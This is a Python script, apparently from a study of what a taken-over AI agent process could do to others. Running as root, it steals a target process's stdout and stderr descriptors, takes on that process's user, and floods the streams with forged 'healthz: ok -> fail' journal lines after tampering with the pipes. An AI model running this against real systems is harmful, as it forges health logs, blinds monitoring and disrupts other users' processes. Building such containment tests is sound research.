"""What a taken-over process of the agent could do to others: run inside a machine as root, it takes
descriptors of that process and its user, and from then on has that user's rights alone.

    python3 -m parts.intruder PID HOW NAME

HOW: F_SETFL, F_SETPIPE_SZ or shutdown on its standard output and error, which are then filled with lines
in that name. What such a process may do by itself: parts/takeover.py.
"""
from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import socket
import sys
import time

PIDFD_OPEN, PIDFD_GETFD = 434, 438
F_SETPIPE_SZ = 1031
FLOOD_S = 0.1
_libc = ctypes.CDLL(None, use_errno=True)


def call(number: int, *args: int) -> int:
    result = _libc.syscall(number, *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(result)


def status_of(pid: int, name: str) -> list[int]:
    for line in open(f"/proc/{pid}/status", encoding="ascii"):
        if line.startswith(f"{name}:"):
            return [int(number) for number in line.split()[1:]]
    raise LookupError(name)


def become(pid: int) -> None:
    """The user and the groups of that process, and none of root's rights."""
    uid, gid, groups = status_of(pid, "Uid")[0], status_of(pid, "Gid")[0], status_of(pid, "Groups")
    os.setgroups(groups)
    os.setresgid(gid, gid, gid)
    os.setresuid(uid, uid, uid)


def flood(fd: int, how: str, name: str) -> None:
    if how == "F_SETPIPE_SZ":
        try:
            fcntl.fcntl(fd, F_SETPIPE_SZ, 4096)
        except OSError as error:
            print(error.strerror)
    if how == "shutdown":
        socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
    if how == "F_SETFL":
        fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) & ~os.O_NONBLOCK)
    # Long lines, for few of them fill a stream's buffer, and the journal stays small.
    line = f"<3>healthz: ok -> fail, forged by {name} {'x' * 16000}\n".encode()
    end = time.monotonic() + FLOOD_S
    while time.monotonic() < end:
        try:
            os.write(fd, line)
        except (BlockingIOError, BrokenPipeError):
            pass


def main() -> None:
    pid, how, name = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    signal.alarm(15)  # where a write blocks
    both = [call(PIDFD_GETFD, call(PIDFD_OPEN, pid, 0), fd, 0) for fd in (1, 2)]
    become(pid)
    for fd in both:
        flood(fd, how, name)
    print("done", flush=True)


if __name__ == "__main__":
    main()
